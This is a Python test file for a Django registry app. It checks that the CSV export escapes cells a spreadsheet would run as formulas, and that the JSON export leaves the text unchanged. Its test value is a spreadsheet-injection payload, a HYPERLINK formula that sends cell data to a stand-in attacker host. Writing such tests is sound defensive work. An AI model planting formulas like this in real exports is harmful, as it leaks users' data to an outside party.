"""The public registry's CSV download writes no cell a spreadsheet would run as a formula: an
agreement's title or partner starting with =, +, - or @ reaches the file behind an
apostrophe (core/spreadsheets.py). The JSON download is no spreadsheet: it keeps the text."""

from __future__ import annotations

import csv
import io
import json

import pytest

from .test_views import signed

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://jahat.test/?d="&A1,"Unduh naskah")'


def download(client, fmt):
    response = client.get(f"/kerja-sama/unduh/{fmt}/")
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8-sig")


def test_the_csv_neutralises_formulas_in_every_text_an_agreement_publishes(client_for, malang):
    signed(malang, FORMULA, organisation="@Koperasi Sejahtera")
    client = client_for(None)
    (row,) = csv.DictReader(io.StringIO(download(client, "csv")))
    assert row["title"] == "'" + FORMULA
    assert row["partners"] == "'@Koperasi Sejahtera"
    assert not row["kind"].startswith("'")  # an ordinary text is left as it is
    (record,) = json.loads(download(client, "json"))
    assert record["title"] == FORMULA
